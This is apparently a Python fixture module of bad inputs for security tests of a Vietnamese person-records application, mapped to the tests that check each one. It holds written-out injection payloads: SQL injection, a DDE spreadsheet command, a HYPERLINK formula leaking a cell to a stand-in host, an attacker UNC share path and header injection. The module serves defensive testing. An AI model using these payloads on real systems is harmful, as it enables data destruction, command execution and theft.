"""Bad inputs of the security reference (§8), 1 to 98: what is typed, and where each is tested.

`TEXTS` go into fields of text, `NAMES` into the name of a person (with what an import makes of
them, or the code of its refusal), `CELLS` into numbers and days (field, what is typed, what is
stored or the code), `DEATHS` into the days of birth and death (and whether both may stand).  Names
of cases are the numbers of the reference, with letters for variants.
"""

from __future__ import annotations

TEXTS = {
    "1": "' OR '1'='1", "2": "'); DROP TABLE doi_tuong;--", "3": 'Robert"); --', "4": "%",
    "5": "_x_", "6": "\\", "7": '"*" OR name:*', "8": "NEAR(", "9": "^abc", "9b": "-abc",
    "10": '<img src="file:///C:/Windows/win.ini">', "11": r'<img src="\\attacker\share\x.png">',
    "12": '<img src="http://127.0.0.1:9/x">',
    "13": '<link rel=stylesheet href="file:///C:/x.css">', "14": "<b>đậm</b>",
    "15": "&lt;script&gt;",
    "16": "A <3 B & C", "17": "{{7*7}}", "18": "${7*7}", "19": "%s%s%n", "20": "%(password)s",
    "21": "=1+1", "22": '=HYPERLINK("http://x/?"&A1,"a")', "23": "=cmd|' /C calc'!A0",
    "24": "+84912345678", "25": "-1+1", "26": "@SUM(1)", "27": "\t=1+1", "28": "\r=1+1",
    "29": "a|b", "30": "a\0b", "31": "chuông\x07 \x1b[31m", "32": "a\r\nSet-Cookie: a=b",
    "33": "a\n2026-11-16 INFO giả", "34": "Nguye\u0302\u0303n", "35": "Nguyễn Bu\u031bởi",
    "36": "d\u0335ường", "40": "abc\u202edef", "41": "Ho\u200ba \ufeffx", "42": "  hai\u00a0 chữ ",
    "43": "\u041dguyen", "44": "👨\u200d👩\u200d👧", "45": "\U0002070e", "47": "a" + "\u0301" * 100,
    "49": "Ý", "50": "H'Hen Niê, Y Ê Ban, Rơ Châm", "52": "Chưa rõ tên",
}  # fmt: skip

NAMES = {
    "1": ("' OR '1'='1", "name-has-digits"), "3": ('Robert"); --', 'Robert"); --'),
    "4": ("%", "name-has-no-letters"), "14": ("<b>đậm</b>", "<b>đậm</b>"),
    "16": ("A <3 B & C", "name-has-digits"), "29": ("Lê|An", "Lê|An"), "30": ("Lê\0An", "LêAn"),
    "31": ("Lê\x07 An", "Lê An"), "32": ("Lê An\r\nX: b", "Lê An X: b"),
    "34": ("Nguye\u0302\u0303n An", "Nguyễn An"), "37": ("NguyÔn V¨n An", "Nguyễn Văn An"),
    "38": ("Nguyeãn Vaên An", "Nguyễn Văn An"), "39": ("Nguyá»…n VÄƒn An", "Nguyễn Văn An"),
    "40": ("Lê\u202e An", "Lê An"), "41": ("Lê\u200b An\ufeff", "Lê An"),
    "42": (" Lê\u00a0\u00a0An ", "Lê An"), "43": ("\u041dguyen An", "\u041dguyen An"),
    "44": ("👨\u200d👩\u200d👧", "name-has-no-letters"), "45": ("Lê \U0002070e", "Lê \U0002070e"),
    "49": ("Ý", "Ý"), "50": ("A" * 121, "text-too-long"), "50b": ("H'HEN NIÊ", "H'Hen Niê"),
    "50c": ("Y Ê Ban", "Y Ê Ban"), "50d": ("Rơ Châm", "Rơ Châm"),
    "51": ("123456", "name-has-digits"), "52": ("Chưa rõ tên", "Chưa rõ tên"),
}  # fmt: skip

WIDE, ARABIC = (
    "".join(chr(zero + int(digit)) for digit in "046088001234") for zero in (0xFF10, 0x660)
)
CELLS = [
    ("53", "id_number", "01108800123", "id-length"),
    ("53b", "id_number", "0460880012345", "id-length"),
    ("54", "id_number", "000000000000", "000000000000"),
    ("55", "id_number", "999088001234", "999088001234"),
    ("56", "id_number", "O46088001234", "id-not-digits"),
    ("57", "id_number", WIDE, "046088001234"),
    ("58", "id_number", ARABIC, "id-not-digits"),
    ("59", "id_number", "046-088.001 234", "046088001234"),
    ("60", "id_number", "19123456", "019123456"),
    ("61", "id_number", "1.08E+10", "id-digits-lost"),
    ("62", "id_number", "46088001234.0", "046088001234"),
    ("63", "born", "31/02/2012", "no-such-day"),
    ("64", "born", "29/02/2023", "no-such-day"),
    ("65", "born", "00/00/2012", "2012"),
    ("66", "born", "13/13/2013", None),
    ("67", "born", "2012", "2012"),
    ("68", "born", "0001", None),
    ("68b", "born", "9999", None),
    ("69", "born", "22/11/2099", None),
    ("71", "born", "1895", None),
    ("72", "born", "41000", None),
    ("73", "born", "5/8/12", "2012-08-05"),
    ("74", "born", "30/2/1950", "no-such-day"),
    ("75", "born", "1950-08-05T00:00:00", "1950-08-05"),
    ("76", "phone", "84", "84"),
    ("76b", "phone", "912345678", "0912345678"),
    ("76c", "phone", "1" * 20, "1" * 20),
    ("76d", "phone", "0912.345.678/0987654321", "0912345678, 0987654321"),
]

DEATHS = [
    ("70", "5/8/1950", "4/8/1950", False), ("70b", "8/1950", "7/1950", False),
    ("70c", "1950", "1949", False), ("70d", "5/8/1950", "5/8/1950", True),
    ("70e", "5/8/1950", "1950", True), ("70f", "1950", "8/1950", True),
]  # fmt: skip

LONE_SURROGATE = "a\ud800b"
TEN_MEGABYTES = "a " * 5_000_000

_FIELDS = "tests/scenarios/test_bad_fields.py"
_LISTS = "tests/scenarios/test_bad_lists.py"
_TEXT = (
    f"{_FIELDS}::test_a_text_is_kept_as_meant_by_the_command",
    f"{_FIELDS}::test_texts_are_kept_by_the_window",
    f"{_FIELDS}::test_texts_are_kept_by_the_prompt",
    f"{_LISTS}::test_text_is_kept_as_written",
)
_NAME = (
    f"{_FIELDS}::test_a_name_is_kept_or_refused_by_the_command",
    f"{_LISTS}::test_name_is_kept_or_refused",
)
_CELL = (
    f"{_FIELDS}::test_numbers_and_days_are_kept_or_refused_by_the_window",
    f"{_LISTS}::test_number_and_day_are_read_or_refused_with_a_sentence",
)
_SEARCH = "tests/storage/test_finding.py::test_nothing_that_can_be_typed_breaks_the_search"
_HURTS = f"{_LISTS}::test_a_file_made_to_hurt_is_refused_with_a_sentence"
_OTHER_NAME = f"{_LISTS}::test_a_harmless_file_under_another_name_is_read"
_NOT_OPENED = f"{_LISTS}::test_a_file_that_cannot_be_opened_is_said_so"
_PAPERS = "tests/exchange/test_papers.py"
_REFUSED_PAPERS = f"{_PAPERS}::test_what_cannot_be_kept_is_told_plainly"

NOT_HERE = "not here: "
"""Begins the reason why a number has no test."""

WHERE: dict[int, tuple[str, ...]] = {
    **dict.fromkeys(range(1, 36), _TEXT),
    **dict.fromkeys((1, 3, 4, 14, 16, 29, 30, 31, 32, 34), (*_TEXT, *_NAME)),
    **dict.fromkeys((4, 5, 6, 7, 8, 9), (*_TEXT, _SEARCH)),
    36: _TEXT,
    **dict.fromkeys((37, 38, 39), _NAME),
    **dict.fromkeys(range(40, 46), (*_TEXT, *_NAME)),
    46: (f"{_FIELDS}::test_half_a_letter_is_left_out",),
    47: _TEXT,
    48: (
        f"{_FIELDS}::test_ten_megabytes_are_refused_beside_the_field",
        "tests/exchange/test_sheets.py::test_too_many_bytes_are_refused_unread",
    ),
    **dict.fromkeys((49, 50, 52), (*_TEXT, *_NAME)),
    51: _NAME,
    **dict.fromkeys(range(53, 77), _CELL),
    57: (*_CELL, "tests/domain/test_identity.py::test_a_number_is_cleaned"),
    60: (*_CELL, "tests/domain/test_identity.py::test_lost_zeros_come_back_only_where_plausible"),
    70: (
        f"{_FIELDS}::test_a_death_before_the_birth_is_refused_by_the_window",
        f"{_FIELDS}::test_a_death_before_the_birth_is_refused_by_the_prompt",
    ),
    72: (*_CELL, "tests/exchange/test_sheets.py::test_both_epochs_of_days_are_read"),
    73: (*_CELL, "tests/domain/test_days.py::test_short_years_mean_the_hundred_until_today"),
    76: (*_CELL, "tests/domain/test_identity.py::test_what_is_no_phone_number_says_why"),
    77: (_HURTS, "tests/exchange/test_packed.py::test_packed_bomb_is_refused"),
    78: (_HURTS,),
    79: (_HURTS,),
    80: (_HURTS,),
    81: (_HURTS, "tests/exchange/test_packed.py::test_one_long_text_used_often_is_refused"),
    82: (_HURTS, "tests/exchange/test_packed.py::test_cell_in_the_last_corner_is_refused"),
    83: (_HURTS, "tests/exchange/test_packed.py::test_entity_bomb_expands_to_nothing"),
    84: (_OTHER_NAME,),
    85: (_OTHER_NAME,),
    86: ("tests/exchange/test_sheets.py::test_password_is_named",),
    87: (_HURTS,),
    88: (
        "tests/exchange/test_sheets.py::test_merged_cells_carry_their_value_and_width",
        "tests/exchange/test_sheets.py::test_hidden_sheets_are_left_out_and_row_numbers_kept",
        "tests/exchange/test_sheets.py::test_kinds_of_cells_become_plain",
    ),
    89: (_HURTS,),
    90: (f"{_LISTS}::test_a_link_in_an_archive_is_never_followed", _HURTS, _OTHER_NAME),
    91: (
        _REFUSED_PAPERS,
        f"{_PAPERS}::test_more_pixels_than_are_read_are_refused",
        "tests/exchange/test_card_pictures.py::test_a_picture_of_too_many_pixels_is_refused",
    ),
    92: (f"{_PAPERS}::test_a_photograph_becomes_small_upright_and_silent",),
    93: ("tests/exchange/test_card_pictures.py::test_what_is_no_picture_of_a_code_is_refused",),
    94: (
        f"{_PAPERS}::test_a_pdf_with_a_password_says_so",
        f"{_PAPERS}::test_a_pdf_is_kept_as_it_is_and_its_pages_can_be_read",
    ),
    95: (_HURTS,),
    96: (_HURTS, _REFUSED_PAPERS),
    97: (_NOT_OPENED,),
    98: (_NOT_OPENED,),
}
"""Number of the reference → tests (`file::function`), or the one reason why there is none."""
